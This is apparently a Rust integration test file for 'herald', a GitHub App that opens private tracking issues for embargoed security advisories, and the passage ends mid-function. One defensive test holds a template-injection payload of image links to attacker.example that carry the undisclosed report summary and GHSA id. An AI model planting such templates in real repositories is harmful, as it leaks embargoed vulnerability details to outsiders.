//! herald as a GitHub App, through the real octocrab client against a fake GitHub on
//! loopback: installation tokens, the per-repository configuration, and the private
//! tracking issue (one per incident, ever; never in a public repository under embargo).

use crate::both_stores;
use crate::common;

use common::chat::FakeChat;
use common::github::FakeGitHub;
use common::mail::{Gpg, Received, SmtpSink, decode_body, part_body};
use common::{Harness, fixture};
use herald::config::{GitHubSettings, MailSettings};
use herald::jobs::{
    ChatNotice, ContainmentNotice, Job, PendingChat, PendingComment, PendingContainment,
    PendingEscalation, PendingMail, PendingPull, PublicChannel, Stage,
};
use herald::mail::SigningKey;
use herald::store::TrackingStatus;
use secrecy::SecretString;
use std::time::Duration;

pub(crate) const APP_ID: u64 = 29310;
/// The installation of the `installation.created` example payload.
pub(crate) const INSTALLATION: u64 = 957387;
pub(crate) const REPO: &str = "Codertocat/Hello-World";
pub(crate) const TRACKING_REPO: &str = "Codertocat/security";
const GHSA: &str = "GHSA-abcd-1234-efgh";

pub(crate) fn private_key() -> String {
    String::from_utf8(fixture("app-private-key.pem")).expect("PEM text")
}

pub(crate) fn github_settings(fake: &FakeGitHub) -> GitHubSettings {
    GitHubSettings {
        api_url: fake.url.clone(),
        app_id: APP_ID,
        private_key: SecretString::from(private_key()),
        poll_interval: Duration::from_secs(3600),
        web_url: fake.url.clone(),
        read_cache_for: Duration::from_secs(60),
        // GitHub's budgets, without the second between writes that would only slow tests.
        pacing: herald::config::Pacing {
            spacing: Duration::ZERO,
            ..herald::config::Pacing::default()
        },
        // On start, and then only when a test asks.
        redelivery_interval: Duration::from_secs(3600),
    }
}

/// A fake GitHub where the App is installed on Codertocat, whose Hello-World repository is
/// public, with a private security repository for tracking issues.
pub(crate) async fn world() -> FakeGitHub {
    let public_key = String::from_utf8(fixture("app-public-key.pem")).expect("PEM text");
    let fake = FakeGitHub::start(APP_ID, &public_key).await;
    fake.add_installation(INSTALLATION, "Codertocat");
    fake.add_repository(REPO, false, INSTALLATION);
    fake.add_repository(TRACKING_REPO, true, INSTALLATION);
    fake
}

/// An advisory payload as GitHub sends it for this installation.
pub(crate) fn advisory(name: &str) -> Vec<u8> {
    let mut payload: serde_json::Value =
        serde_json::from_slice(&fixture(name)).expect("fixture JSON");
    payload["installation"]["id"] = INSTALLATION.into();
    serde_json::to_vec(&payload).expect("JSON")
}

/// The example report for this installation, under its own GHSA id (`GHSA-abcd-1234-NNNN`).
pub(crate) fn numbered_report(number: usize) -> Vec<u8> {
    let mut payload: serde_json::Value =
        serde_json::from_slice(&advisory("repository_advisory.reported.composed.json"))
            .expect("JSON");
    payload["repository_advisory"]["ghsa_id"] = format!("GHSA-abcd-1234-{number:04}").into();
    serde_json::to_vec(&payload).expect("JSON")
}

async fn installed(fake: &FakeGitHub) -> Harness {
    installed_with(fake, |_| {}).await
}

/// herald as the App installed on Codertocat, with settings changed by `adjust`.
pub(crate) async fn installed_with(
    fake: &FakeGitHub,
    adjust: impl FnOnce(&mut herald::config::Settings),
) -> Harness {
    let harness = Harness::start_with(true, |settings| {
        settings.github = Some(github_settings(fake));
        adjust(settings);
    })
    .await;
    let answer = harness
        .deliver(
            "installation",
            "install-1",
            &fixture("installation.created.0.json"),
        )
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness.wait_processed().await;
    harness
}

/// Tracking issues go to the private security repository.
pub(crate) const TRACK_PRIVATELY: &str = "tracking:\n  repository: Codertocat/security\n";

/// GitHub reports the example vulnerability (`name` is the delivery id).
async fn report(harness: &Harness, delivery_id: &str) {
    let answer = harness
        .deliver(
            "repository_advisory",
            delivery_id,
            &advisory("repository_advisory.reported.composed.json"),
        )
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness.wait_all_jobs().await;
}

async fn incident_id(harness: &Harness) -> herald::store::IncidentId {
    let rows = harness
        .store
        .incidents_by_ghsa(&common::ghsa(GHSA))
        .await
        .expect("incidents");
    assert_eq!(rows.len(), 1);
    rows[0].id
}

/// Writes to the advisory's (public) repository, as "METHOD /path".
fn public_writes(fake: &FakeGitHub) -> Vec<String> {
    fake.requests()
        .iter()
        .filter(|request| {
            request.path.starts_with(&format!("/repos/{REPO}/")) && request.method != "GET"
        })
        .map(|request| format!("{} {}", request.method, request.path))
        .collect()
}

async fn timeline_details(harness: &Harness) -> Vec<String> {
    harness
        .store
        .timeline_entries(incident_id(harness).await)
        .await
        .expect("timeline")
        .into_iter()
        .map(|entry| entry.detail)
        .collect()
}

pub(crate) fn assert_no_unexpected(fake: &FakeGitHub) {
    assert!(
        fake.unexpected().is_empty(),
        "requests the fake GitHub did not expect: {:?}",
        fake.unexpected()
    );
}

both_stores!(a_reported_advisory_opens_exactly_one_private_tracking_issue);
async fn a_reported_advisory_opens_exactly_one_private_tracking_issue() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\n  assignees: [Codertocat]\n",
    );
    let harness = installed(&fake).await;
    let installations = harness.store.installations().await.expect("installations");
    assert_eq!(installations.len(), 1);
    assert_eq!(installations[0].id, INSTALLATION as i64);
    assert_eq!(installations[0].repositories, vec![REPO.to_owned()]);

    let reported = advisory("repository_advisory.reported.composed.json");
    let answer = harness
        .deliver("repository_advisory", "report-1", &reported)
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness.wait_all_jobs().await;

    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), 1, "{issues:?}");
    let issue = &issues[0];
    assert!(issue.title.contains(GHSA), "{}", issue.title);
    assert_eq!(issue.labels, vec!["security", "severity:critical"]);
    assert_eq!(issue.assignees, vec!["Codertocat"]);
    for expected in [
        "<!-- herald:incident Codertocat/Hello-World GHSA-abcd-1234-efgh -->",
        "Embargoed",
        "9.3 critical (CVSS 4.0, computed)",
        "9.8 critical (CVSS 3.1, computed)",
        "#### Containment",
        "#### Remediation",
        "#### Disclosure",
        "#### Recovery",
        "- [ ] Rotate exposed secrets and tokens",
        "nobody yet",
    ] {
        assert!(
            issue.body.contains(expected),
            "missing {expected:?} in:\n{}",
            issue.body
        );
    }
    // The request was GitHub's documented "create an issue" body.
    let create = fake
        .requests()
        .into_iter()
        .find(|request| {
            request.method == "POST" && request.path == format!("/repos/{TRACKING_REPO}/issues")
        })
        .expect("the create request");
    let sent = create.body.expect("a JSON body");
    assert_eq!(sent["title"], issue.title.as_str());
    assert_eq!(sent["body"], issue.body.as_str());
    assert_eq!(
        sent["labels"],
        serde_json::json!(["security", "severity:critical"])
    );
    assert_eq!(sent["assignees"], serde_json::json!(["Codertocat"]));
    assert_eq!(create.status, 201);
    // The credited analyst is named but not pinged.
    assert!(!issue.body.contains("@octocat"), "{}", issue.body);
    assert!(
        fake.issues(REPO).is_empty(),
        "nothing in the public repository"
    );

    let id = incident_id(&harness).await;
    let link = harness
        .store
        .tracking_link(id)
        .await
        .expect("link")
        .expect("recorded");
    assert_eq!(link.status, TrackingStatus::Open);
    assert_eq!(link.repository.as_deref(), Some(TRACKING_REPO));
    assert_eq!(link.number, Some(issue.number as i64));
    let timeline = harness.store.timeline(id).await.expect("timeline");
    assert!(
        timeline
            .iter()
            .any(|stored| stored.entry.detail == format!("tracking issue {TRACKING_REPO}#1")),
        "{timeline:?}"
    );

    // GitHub's manual redelivery keeps the id: nothing happens again.
    let again = harness
        .deliver("repository_advisory", "report-1", &reported)
        .await;
    assert_eq!(again.status, 200, "{}", again.body);
    harness.wait_all_jobs().await;
    // The same body under a new delivery id is a repeat too.
    let resent = harness
        .deliver("repository_advisory", "report-2", &reported)
        .await;
    assert_eq!(resent.status, 200, "{}", resent.body);
    harness.wait_all_jobs().await;
    assert_eq!(
        fake.count("POST", &format!("/repos/{TRACKING_REPO}/issues")),
        1
    );
    assert_eq!(
        fake.count("PATCH", &format!("/repos/{TRACKING_REPO}/issues/1")),
        0
    );

    // Under embargo nothing was written anywhere public: the advisory's repository saw reads.
    assert_eq!(public_writes(&fake), Vec::<String>::new());
    // The drafts wait for review in one comment on the private issue.
    let review = drafts_comments(&fake);
    assert_eq!(review.len(), 1);
    for draft in [
        "changelog-entry.md",
        "advisory-issue.md",
        "announcement.txt",
        "wiki-page.wiki",
        "forum-post.md",
        "osv.json",
    ] {
        assert!(
            review[0]
                .body
                .contains(&format!("<summary>{draft}</summary>")),
            "{draft} missing:\n{}",
            review[0].body
        );
    }
    let stored = harness.store.drafts(id).await.expect("drafts");
    assert!(stored.iter().any(|(name, text)| name == "announcement.txt"
        && text.contains("A short summary of the advisory.")));

    // Publication updates the same issue in place.
    let published = advisory("repository_advisory.published.composed.json");
    let answer = harness
        .deliver("repository_advisory", "publish-1", &published)
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness.wait_all_jobs().await;
    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), 1);
    assert!(
        issues[0].body.contains("| Phase | disclosure |"),
        "{}",
        issues[0].body
    );
    assert_eq!(
        fake.count("POST", &format!("/repos/{TRACKING_REPO}/issues")),
        1
    );
    // Rewritten for the disclosure, and once more when the channels are done, to link them.
    assert_eq!(
        fake.count("PATCH", &format!("/repos/{TRACKING_REPO}/issues/1")),
        2
    );

    // One installation token served every call.
    assert_eq!(fake.token_requests(), 1);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(maintainers_ticks_survive_an_update_and_an_expired_token_is_replaced);
async fn maintainers_ticks_survive_an_update_and_an_expired_token_is_replaced() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    let issue = &fake.issues(TRACKING_REPO)[0];
    let ticked = issue
        .body
        .replace("- [ ] Fix and test", "- [x] Fix and test");
    fake.edit_issue_body(TRACKING_REPO, issue.number, &ticked);

    fake.expire_tokens();
    harness
        .deliver(
            "repository_advisory",
            "publish-1",
            &advisory("repository_advisory.published.composed.json"),
        )
        .await;
    harness.wait_all_jobs().await;
    let body = &fake.issues(TRACKING_REPO)[0].body;
    assert!(body.contains("- [x] Fix and test"), "{body}");
    assert!(body.contains("| Phase | disclosure |"), "{body}");
    assert_eq!(fake.token_requests(), 2, "the expired token was replaced");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_undisclosed_incident_is_never_put_into_a_public_repository);
async fn an_undisclosed_incident_is_never_put_into_a_public_repository() {
    let fake = world().await;
    // No configuration: the default tracking repository is the advisory's own, public one.
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;

    assert!(fake.issues(REPO).is_empty());
    assert_eq!(fake.count("POST", &format!("/repos/{REPO}/issues")), 0);
    let id = incident_id(&harness).await;
    let link = harness
        .store
        .tracking_link(id)
        .await
        .expect("link")
        .expect("the refusal is recorded");
    assert_eq!(link.status, TrackingStatus::Refused);
    let detail = link.detail.expect("why");
    assert!(detail.contains("Codertocat/Hello-World"), "{detail}");
    assert!(detail.contains("is public"), "{detail}");
    assert!(detail.contains("tracking.repository"), "{detail}");

    // `herald incidents show` says so.
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["incidents", "show", GHSA])
        .env("HERALD_DATABASE_URL", &harness.database_url)
        .env_remove("HERALD_GITHUB_APP_ID")
        .output()
        .expect("herald runs");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{stdout}");
    assert!(stdout.contains("Tracking issue: REFUSED"), "{stdout}");
    assert!(stdout.contains("is public"), "{stdout}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// Someone who can push to the repository points tracking at a private repository of
/// their own, in the same installation.
fn mallory_points_tracking_at_their_own(fake: &FakeGitHub) {
    fake.add_repository("Codertocat/mallory-notes", true, INSTALLATION);
    fake.put_file_as(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/mallory-notes\n",
        "mallory",
    );
}

#[tokio::test]
async fn a_repository_cannot_override_the_templates_that_carry_the_undisclosed_report() {
    let fake = world().await;
    // An image GitHub's proxy would fetch, with the report in its address.
    let leak = "<img src=\"https://attacker.example/c?s={{summary}}\">\n![x](https://attacker.example/{{ghsa_id}})\n";
    for name in ["tracking-issue.md", "prenotify.txt"] {
        fake.put_file(REPO, &format!(".github/herald/templates/{name}.hbs"), leak);
    }
    let harness = tracked(&fake).await;
    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(!issue.contains("attacker.example"), "{issue}");
    assert!(
        issue.contains("tracking-issue.md is herald's own: it carries the undisclosed report")
            && issue.contains("prenotify.txt is herald's own"),
        "{issue}"
    );
    let read: Vec<String> = fake
        .requests()
        .iter()
        .map(|request| request.path.clone())
        .filter(|path| path.contains("tracking-issue.md.hbs") || path.contains("prenotify.txt.hbs"))
        .collect();
    assert!(read.is_empty(), "not even read: {read:?}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_changed_tracking_repository_moves_no_open_incident_and_is_shown);
async fn a_changed_tracking_repository_moves_no_open_incident_and_is_shown() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "write");
    mallory_points_tracking_at_their_own(&fake);
    command(&harness, "c-1", "alice", "/herald severity high").await;
    command(&harness, "c-2", "alice", "/herald threat passive").await;
    assert!(
        fake.issues("Codertocat/mallory-notes").is_empty(),
        "the report did not move"
    );
    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        issue.contains("| Threat | passive:"),
        "still updated where it is: {issue}"
    );
    let notices: Vec<String> = answers(&fake)
        .into_iter()
        .map(|comment| comment.body)
        .filter(|body| body.starts_with("**The tracking repository changed.**"))
        .collect();
    assert_eq!(notices.len(), 1, "said once: {notices:#?}");
    let sha = fake
        .commits(REPO, "main")
        .last()
        .expect("the push")
        .sha
        .clone();
    assert!(
        notices[0].contains("now names Codertocat/mallory-notes")
            && notices[0].contains(&format!(
                "in commit {} of {REPO}, pushed by mallory",
                &sha[..12]
            ))
            && notices[0].contains("stays here, in Codertocat/security"),
        "{}",
        notices[0]
    );
    assert!(
        timeline_details(&harness).await.contains(
            &"tracking.repository now names Codertocat/mallory-notes; the tracking issue stays in Codertocat/security".to_owned()
        )
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn an_organisations_locked_tracking_repository_is_not_overridden_by_a_repository() {
    let fake = world().await;
    fake.add_repository("Codertocat/.github", false, INSTALLATION);
    fake.put_file(
        "Codertocat/.github",
        ".github/herald.yml",
        "locked: [tracking]\ntracking:\n  repository: Codertocat/security\n",
    );
    mallory_points_tracking_at_their_own(&fake);
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    assert!(fake.issues("Codertocat/mallory-notes").is_empty());
    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(
        issue.contains("locked by the organisation's policy in Codertocat/.github"),
        "{issue}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn an_internal_repository_is_not_private_enough_for_a_tracking_issue() {
    let fake = world().await;
    // The whole enterprise reads an internal repository.
    fake.make_internal(TRACKING_REPO);
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    assert!(fake.issues(TRACKING_REPO).is_empty());
    let link = harness
        .store
        .tracking_link(incident_id(&harness).await)
        .await
        .expect("link")
        .expect("the refusal is recorded");
    assert_eq!(link.status, TrackingStatus::Refused);
    let detail = link.detail.expect("why");
    assert!(
        detail.contains("Codertocat/security: that repository is internal"),
        "{detail}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_issue_created_before_a_lost_answer_is_found_again_not_duplicated);
async fn an_issue_created_before_a_lost_answer_is_found_again_not_duplicated() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    // GitHub creates the issue, but herald never hears so: the attempt fails, and the next
    // one must find the issue rather than open a second.
    let issues_path = format!("/repos/{TRACKING_REPO}/issues");
    fake.lose_next_answer("POST", &issues_path);
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;

    assert_eq!(fake.count("POST", &issues_path), 1, "created once");
    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), 1);
    let number = issues[0].number;
    assert!(
        issues[0].body.contains("#### Containment"),
        "rewritten in place"
    );
    assert!(issues[0].labels.contains(&"severity:critical".to_owned()));
    let link = harness
        .store
        .tracking_link(incident_id(&harness).await)
        .await
        .expect("link")
        .expect("recorded");
    assert_eq!(link.number, Some(number as i64));
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_secondary_rate_limit_is_waited_out_and_retried);
async fn a_secondary_rate_limit_is_waited_out_and_retried() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    fake.fail_next(
        "POST",
        &format!("/repos/{TRACKING_REPO}/issues"),
        403,
        Some(1),
    );
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;

    let creates: Vec<u16> = fake
        .requests()
        .iter()
        .filter(|request| {
            request.method == "POST" && request.path == format!("/repos/{TRACKING_REPO}/issues")
        })
        .map(|request| request.status)
        .collect();
    assert_eq!(creates, vec![403, 201]);
    assert_eq!(fake.issues(TRACKING_REPO).len(), 1);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_broken_configuration_is_reported_on_the_issue_and_defaults_are_used);
async fn a_broken_configuration_is_reported_on_the_issue_and_defaults_are_used() {
    let fake = world().await;
    // The organisation's `.github` repository holds the configuration (Probot's convention),
    // with a typo; the defaults then track in the advisory's repository, here private.
    fake.add_repository("Codertocat/.github", false, INSTALLATION);
    fake.add_repository("Codertocat/private-lib", true, INSTALLATION);
    fake.put_file(
        "Codertocat/.github",
        ".github/herald.yml",
        "labels:\n  security: security\ntracking:\n  repositry: Codertocat/security\n",
    );
    let harness = installed(&fake).await;
    let mut payload: serde_json::Value =
        serde_json::from_slice(&advisory("repository_advisory.reported.composed.json"))
            .expect("JSON");
    payload["repository"]["full_name"] = "Codertocat/private-lib".into();
    payload["repository"]["private"] = true.into();
    harness
        .deliver(
            "repository_advisory",
            "report-1",
            &serde_json::to_vec(&payload).expect("JSON"),
        )
        .await;
    harness.wait_all_jobs().await;

    let issues = fake.issues("Codertocat/private-lib");
    assert_eq!(issues.len(), 1, "the incident is not dropped");
    let body = &issues[0].body;
    assert!(body.contains("Configuration problem"), "{body}");
    assert!(body.contains("line 4"), "{body}");
    assert!(body.contains("repositry"), "{body}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn a_malformed_app_key_stops_herald_with_a_clear_error() {
    let fake = world().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let database_url = format!("sqlite://{}", dir.path().join("herald.db").display());
    let mut settings = common::settings(&database_url, true);
    let mut github = github_settings(&fake);
    github.private_key = SecretString::from(
        "-----BEGIN RSA PRIVATE KEY-----\nnot-a-key-SECRET\n-----END RSA PRIVATE KEY-----"
            .to_owned(),
    );
    settings.github = Some(github);
    let error = match herald::server::Server::start(&settings).await {
        Ok(_) => panic!("herald started with a malformed key"),
        Err(error) => format!("{error:#}"),
    };
    assert!(error.contains("private key"), "{error}");
    assert!(
        !error.contains("not-a-key-SECRET"),
        "the key leaked: {error}"
    );
}

async fn doctor(fake_url: &str, key_file: &std::path::Path) -> (bool, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = format!("sqlite://{}", dir.path().join("herald.db").display());
    doctor_on(fake_url, key_file, &store).await
}

/// `herald doctor` with the App's key and the store at `database_url`.
async fn doctor_on(
    fake_url: &str,
    key_file: &std::path::Path,
    database_url: &str,
) -> (bool, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .arg("doctor")
        .current_dir(dir.path())
        .env("HERALD_DATABASE_URL", database_url)
        .env("HERALD_WEBHOOK_SECRET", "doctor-secret")
        .env("HERALD_GITHUB_API_URL", fake_url)
        .env("HERALD_GITHUB_APP_ID", APP_ID.to_string())
        .env("HERALD_GITHUB_PRIVATE_KEY_FILE", key_file)
        .env_remove("HERALD_GITHUB_PRIVATE_KEY")
        .output()
        .await
        .expect("herald doctor runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

#[tokio::test]
async fn doctor_says_where_tracking_issues_would_be_read_by_more_than_the_security_team() {
    let fake = world().await;
    let harness = installed(&fake).await;
    let key =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/app-private-key.pem");
    let run = async || doctor_on(&fake.url, &key, &harness.database_url).await;
    // No `tracking.repository`: the advisory's own repository.
    let (healthy, text) = run().await;
    assert!(healthy, "{text}");
    assert!(
        text.contains(&format!(
            "note    {REPO}: tracking issues go into {REPO} itself (no `tracking.repository`)"
        )),
        "{text}"
    );
    // A public tracking repository would be refused.
    fake.put_file(
        REPO,
        ".github/herald.yml",
        &format!("tracking:\n  repository: {REPO}\n"),
    );
    let (_, text) = run().await;
    assert!(
        text.contains(&format!("{REPO}: its tracking repository {REPO} is public")),
        "{text}"
    );
    // A private one only the team reads: nothing to say.
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let (_, text) = run().await;
    assert!(!text.contains("tracking"), "{text}");
    harness.stop().await;
}

#[tokio::test]
async fn doctor_checks_the_key_the_api_and_the_installations() {
    let fake = world().await;
    let key =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/app-private-key.pem");
    let (healthy, text) = doctor(&fake.url, &key).await;
    assert!(healthy, "{text}");
    assert!(text.contains("JWT signed"), "{text}");
    assert!(text.contains("herald-test (id 29310)"), "{text}");
    assert!(
        text.contains("installed on Codertocat (installation 957387)"),
        "{text}"
    );
    assert!(!text.contains("BEGIN RSA"), "{text}");
    assert!(
        text.contains("Codertocat's security managers may publish, as repository admins may"),
        "{text}"
    );
    // Without the permission to read the organisation's roles: admins only, and why.
    fake.forbid_org_roles();
    let (healthy, text) = doctor(&fake.url, &key).await;
    assert!(healthy, "{text}");
    assert!(
        text.contains(
            "herald cannot see Codertocat's security managers (Resource not accessible by \
             integration): only repository admins may publish"
        ),
        "{text}"
    );

    // A key file that is not a key.
    let dir = tempfile::tempdir().expect("tempdir");
    let broken = dir.path().join("key.pem");
    std::fs::write(
        &broken,
        "-----BEGIN RSA PRIVATE KEY-----\nSECRETSTUFF\n-----END RSA PRIVATE KEY-----\n",
    )
    .expect("write");
    let (healthy, text) = doctor(&fake.url, &broken).await;
    assert!(!healthy, "{text}");
    assert!(
        text.contains("PROBLEM the GitHub App private key is not a PEM-encoded RSA private key"),
        "{text}"
    );
    assert!(!text.contains("SECRETSTUFF"), "{text}");

    // A GitHub that does not answer.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").expect("port");
    let url = format!("http://{}", closed.local_addr().expect("addr"));
    drop(closed);
    let (healthy, text) = doctor(&url, &key).await;
    assert!(!healthy, "{text}");
    assert!(text.contains("PROBLEM GitHub API at"), "{text}");

    // A missing key file.
    let (healthy, text) = doctor(&fake.url, &dir.path().join("absent.pem")).await;
    assert!(!healthy, "{text}");
    assert!(text.contains("absent.pem"), "{text}");
}

/// herald installed, polling the advisory lists every 100 ms.
async fn polling(fake: &FakeGitHub) -> Harness {
    polling_with(fake, |_| {}, &fixture("installation.created.0.json")).await
}

/// herald polling every 100 ms with GitHub settings changed by `adjust`, installed by the
/// `installation` payload.
async fn polling_with(
    fake: &FakeGitHub,
    adjust: impl FnOnce(&mut GitHubSettings),
    installation: &[u8],
) -> Harness {
    let harness = Harness::start_with(true, |settings| {
        let mut github = github_settings(fake);
        github.poll_interval = Duration::from_millis(100);
        adjust(&mut github);
        settings.github = Some(github);
    })
    .await;
    let answer = harness
        .deliver("installation", "install-1", installation)
        .await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness
}

both_stores!(a_draft_advisory_seen_only_by_polling_becomes_an_incident);
async fn a_draft_advisory_seen_only_by_polling_becomes_an_incident() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let mut draft: serde_json::Value =
        serde_json::from_slice(&fixture("repository_advisory.reported.composed.json"))
            .expect("JSON");
    let mut draft = draft["repository_advisory"].take();
    draft["state"] = "draft".into();
    fake.put_advisory(REPO, draft.clone());
    let harness = polling(&fake).await;

    // No webhook for the draft: the poll finds it.
    let list = format!("/repos/{REPO}/security-advisories");
    for _ in 0..200 {
        let polled_again = fake
            .requests()
            .iter()
            .any(|request| request.path == list && request.status == 304);
        if polled_again {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    harness.wait_all_jobs().await;
    let rows = harness
        .store
        .incidents_by_ghsa(&common::ghsa(GHSA))
        .await
        .expect("incidents");
    assert_eq!(rows.len(), 1, "the draft became an incident");
    assert_eq!(
        rows[0].incident.advisory_state,
        herald::incident::AdvisoryState::Draft
    );
    let timeline = harness.store.timeline(rows[0].id).await.expect("timeline");
    assert!(
        timeline[0].entry.detail.contains("found by herald's poll"),
        "{timeline:?}"
    );
    assert_eq!(
        fake.issues(TRACKING_REPO).len(),
        1,
        "its tracking issue too"
    );
    // Later polls were conditional and answered 304: nothing new was ingested.
    let answers: Vec<u16> = fake
        .requests()
        .iter()
        .filter(|request| request.path == list)
        .map(|request| request.status)
        .collect();
    assert_eq!(
        answers.iter().filter(|status| **status == 200).count(),
        1,
        "{answers:?}"
    );
    assert!(answers.contains(&304), "{answers:?}");
    assert_eq!(
        harness
            .count("SELECT COUNT(*) FROM deliveries WHERE delivery_id LIKE 'poll:%'")
            .await,
        1
    );

    // The maintainer edits the draft: the next poll brings the change.
    draft["summary"] = "A sharper summary".into();
    draft["updated_at"] = "2020-01-03T12:00:00Z".into();
    fake.put_advisory(REPO, draft);
    harness
        .until("the edited summary", async || {
            let rows = harness
                .store
                .incidents_by_ghsa(&common::ghsa(GHSA))
                .await
                .expect("incidents");
            rows[0].incident.summary == "A sharper summary"
        })
        .await;
    let rows = harness
        .store
        .incidents_by_ghsa(&common::ghsa(GHSA))
        .await
        .expect("incidents");
    assert_eq!(rows[0].incident.summary, "A sharper summary");
    harness.wait_all_jobs().await;
    let issues = fake.issues(TRACKING_REPO);
    assert_eq!(issues.len(), 1);
    assert!(
        issues[0].title.contains("A sharper summary"),
        "{}",
        issues[0].title
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// A person's event on the tracking issue `Codertocat/security#1`, from GitHub's example.
fn on_tracking_issue(
    name: &str,
    sender: &str,
    change: impl FnOnce(&mut serde_json::Value),
) -> Vec<u8> {
    let mut payload: serde_json::Value = serde_json::from_slice(&fixture(name)).expect("JSON");
    payload["repository"]["full_name"] = TRACKING_REPO.into();
    payload["repository"]["name"] = "security".into();
    payload["repository"]["private"] = true.into();
    payload["issue"]["number"] = 1.into();
    payload["sender"]["login"] = sender.into();
    payload["sender"]["type"] = "User".into();
    payload["installation"] = serde_json::json!({ "id": INSTALLATION });
    // Each event changes the issue, as on GitHub: no two deliveries carry the same body.
    static EVENTS: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
    let event = EVENTS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    payload["issue"]["updated_at"] = (chrono::DateTime::UNIX_EPOCH
        + chrono::Duration::seconds(1_800_000_000 + i64::try_from(event).expect("a count")))
    .to_rfc3339()
    .into();
    if payload.get("comment").is_some() {
        payload["comment"]["id"] = event.into();
    }
    change(&mut payload);
    serde_json::to_vec(&payload).expect("JSON")
}

fn comment(sender: &str, body: &str) -> Vec<u8> {
    on_tracking_issue("issue_comment.created.0.json", sender, |payload| {
        payload["comment"]["body"] = body.into();
        payload["comment"]["user"]["login"] = sender.into();
    })
}

fn label(sender: &str, name: &str) -> Vec<u8> {
    on_tracking_issue("issues.labeled.0.json", sender, |payload| {
        payload["label"]["name"] = name.into();
    })
}

fn unlabel(sender: &str, name: &str) -> Vec<u8> {
    on_tracking_issue("issues.labeled.0.json", sender, |payload| {
        payload["action"] = "unlabeled".into();
        payload["label"]["name"] = name.into();
    })
}

/// A harness with the reported example, still without a CVE id, tracked in
/// `Codertocat/security#1`; GitHub knows the advisory too (for CVE requests, publication).
async fn tracked(fake: &FakeGitHub) -> Harness {
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let harness = installed(fake).await;
    let mut payload: serde_json::Value =
        serde_json::from_slice(&advisory("repository_advisory.reported.composed.json"))
            .expect("JSON");
    payload["repository_advisory"]["cve_id"] = serde_json::Value::Null;
    payload["repository_advisory"]["identifiers"] =
        serde_json::json!([{ "type": "GHSA", "value": GHSA }]);
    say(
        &harness,
        "repository_advisory",
        "report-1",
        &serde_json::to_vec(&payload).expect("JSON"),
    )
    .await;
    fake.put_advisory(REPO, payload["repository_advisory"].clone());
    assert_eq!(fake.issues(TRACKING_REPO).len(), 1);
    harness
}

/// herald's answers on the tracking issue (not the drafts comment).
fn answers(fake: &FakeGitHub) -> Vec<common::github::FakeComment> {
    fake.comments(TRACKING_REPO, 1)
        .into_iter()
        .filter(|comment| !comment.body.starts_with("<!-- herald:drafts"))
        .collect()
}

/// The comment that shows the drafts for review.
fn drafts_comments(fake: &FakeGitHub) -> Vec<common::github::FakeComment> {
    fake.comments(TRACKING_REPO, 1)
        .into_iter()
        .filter(|comment| comment.body.starts_with("<!-- herald:drafts"))
        .collect()
}

async fn say(harness: &Harness, event: &str, delivery_id: &str, body: &[u8]) {
    let answer = harness.deliver(event, delivery_id, body).await;
    assert_eq!(answer.status, 202, "{}", answer.body);
    harness.wait_all_jobs().await;
}

async fn the_incident(harness: &Harness) -> herald::incident::Incident {
    let rows = harness
